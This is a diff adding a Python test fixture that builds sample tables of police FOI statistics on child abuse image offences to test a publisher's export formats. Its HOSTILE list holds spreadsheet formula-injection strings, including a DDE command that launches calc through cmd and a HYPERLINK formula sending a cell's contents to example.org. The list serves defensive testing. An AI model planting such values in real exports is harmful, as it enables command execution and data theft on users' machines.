@@ -1,0 +1,79 @@
+"""A publication with every kind of value, for the tests of all formats."""
+
+from datetime import date
+from decimal import Decimal
+
+from foitracker.publishing.table import Bounds, Column, Kind, Mark, Publication, Source, Table
+
+HOSTILE = (
+    "=1+1",
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "+44 20",
+    "-5",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "'=1+1",
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    "a;=1+1",
+    'a","=1+1',
+    "a\n=1+1",
+    "{=1+1}",
+    "http://example.org",
+)
+
+
+def make_table(*, name="by_force", title="Offences by force", columns=None, rows=None, notes=("A note.",)):
+    return Table(
+        name=name,
+        title=title,
+        columns=columns
+        or (
+            Column("force", "Force"),
+            Column("before", "Offences 2016/17", Kind.COUNT),
+            Column("after", "Offences 2017/18", Kind.COUNT),
+            Column("change", "Change, per cent", Kind.PERCENT),
+            Column("rate", "Rate per 10,000 children", Kind.RATE),
+            Column("answered_on", "Answered on", Kind.DATE),
+        ),
+        rows=rows
+        or (
+            ("Kent", 591, 674, Decimal("14.0"), Decimal("21.38"), date(2018, 5, 1)),
+            ("Essex", 0, Bounds(3, 7), Mark.NOT_AVAILABLE, Mark.NOT_APPLICABLE, date(2018, 5, 2)),
+            ("Gwent", Mark.NOT_AVAILABLE, Mark.CONFIDENTIAL, Decimal("-0.33"), Decimal("0"), Mark.NOT_AVAILABLE),
+        ),
+        period="2016/17 and 2017/18",
+        units="recorded offences",
+        source="answers of police forces to freedom-of-information requests",
+        coverage="2 of 3 forces",
+        notes=notes,
+    )
+
+
+def make_publication(*, tables=None, title="Child abuse image offences", made_on=date(2018, 9, 13), sources=None):
+    return Publication(
+        title=title,
+        summary=("674 offences in 2017/18.", "=1+1 is no formula here."),
+        tables=(make_table(), make_hostile_table()) if tables is None else tables,
+        made_on=made_on,
+        publisher="A charity",
+        contact="press@example.org",
+        notes=("More recorded offences do not by themselves mean more abuse.",),
+        sources=(make_source(),) if sources is None else sources,
+    )
+
+
+def make_hostile_table():
+    return make_table(
+        name="hostile",
+        title="=Texts that would be formulas",
+        columns=(Column("text", "=Text"), Column("number", "Number", Kind.COUNT)),
+        rows=tuple((text, at) for at, text in enumerate(HOSTILE)),
+        notes=(),
+    )
+
+
+def make_source(raw="674", number=674):
+    return Source("Kent", "2017/18", "making", "answer.xlsx", "ab" * 32, "Sheet 1", "B11", raw, number)
